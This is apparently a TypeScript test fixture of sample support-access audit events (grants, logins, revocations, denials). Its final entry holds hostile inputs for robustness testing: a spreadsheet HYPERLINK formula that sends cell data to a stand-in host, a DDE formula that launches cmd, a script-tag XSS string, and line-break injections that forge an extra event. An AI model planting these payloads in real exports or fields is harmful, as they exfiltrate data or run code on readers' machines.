import type { SupportAccessEvent } from '#domain';
import { ada, address, grantId, sessionId, workspaceId } from './sample-people.js';

/** Those of release 0.1: each type, and what a type looks like in other circumstances. */
export const FIRST_TYPES: readonly ((at: string) => SupportAccessEvent)[] = [
  (at) => ({
    type: 'WorkspaceUpdated',
    data: {
      workspaceId,
      name: 'Acme & Söhne',
      tier: 'business',
      forcedSso: false,
      ownerIds: ['ada', 'bob'],
      at,
    },
  }),
  (at) => ({
    type: 'SupportAccessGranted',
    data: {
      workspaceId,
      grantId,
      grantedBy: ada,
      grantedAt: at,
      expiresAt: '2026-11-29T09:31:00.000Z',
      ticketId: 'T-4711',
      reason: 'exports time out',
    },
  }),
  (at) => ({
    type: 'SupportLogin',
    data: {
      workspaceId,
      grantId,
      sessionId,
      engineer: { id: 'eve', name: 'Eve', email: 'eve@vendor.example' },
      at,
      sessionExpiresAt: '2026-11-22T10:32:00.000Z',
      ticketId: 'T-4711',
      ...address,
    },
  }),
  (at) => ({
    type: 'SupportAccessRevoked',
    data: {
      workspaceId,
      grantId,
      cause: 'revoked',
      revokedBy: { ...ada, sessionId },
      at,
      expiresAt: '2026-11-29T09:31:00.000Z',
      reason: 'solved',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'RecordSupportLogin',
      code: 'NO_ACTIVE_GRANT',
      by: { id: 'eve', kind: 'engineer', name: 'Eve' },
      at,
      ...address,
    },
  }),
  (at) => ({
    type: 'SupportAccessRevoked',
    data: {
      workspaceId,
      grantId,
      cause: 'expired',
      revokedBy: { id: 'system', kind: 'system' },
      at,
      expiresAt: '2026-11-22T09:34:59.750Z',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'GrantSupportAccess',
      code: 'ALREADY_GRANTED',
      by: ada,
      at,
      grantId,
      expiresAt: '2026-11-29T09:31:00.000Z',
    },
  }),
  (at) => ({
    type: 'SupportAccessDenied',
    data: {
      workspaceId,
      attempted: 'RevokeSupportAccess',
      code: 'NOT_WORKSPACE_OWNER',
      by: { id: 'mallory', kind: 'vendor', email: 'not an address' },
      at,
    },
  }),
  // What senders may say, and what no reader may stumble over.
  (at) => ({
    type: 'SupportLogin',
    data: {
      workspaceId,
      grantId,
      sessionId,
      engineer: {
        id: 'initiator',
        name: '=HYPERLINK("http://evil.example?"&A1,"x")',
        email: "@SUM(1+1)*cmd|' /C calc'!A0",
      },
      at,
      sessionExpiresAt: '2026-11-22T10:38:00.000Z',
      reason: '-1\r\n"quoted", \u2028{"type":"SupportAccessGranted"}\t🦉',
      ipAddress: 'unix:@socket',
      userAgent: '+31 20 555\n<script>alert(1)</script>',
    },
  }),
];
